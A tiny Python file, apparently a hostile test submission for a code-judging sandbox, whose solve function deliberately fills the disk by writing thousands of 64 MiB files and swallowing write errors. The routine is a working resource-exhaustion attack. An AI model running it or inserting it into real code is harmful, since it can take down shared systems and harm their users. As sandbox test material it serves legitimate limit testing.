"""Fills the disk."""


def solve(x):
    written = 0
    for number in range(10_000):
        try:
            with open(f"file{number}", "wb") as file:
                for _ in range(64):
                    written += file.write(bytes(1 << 20))
        except OSError:
            if number > 100:
                break
    return written
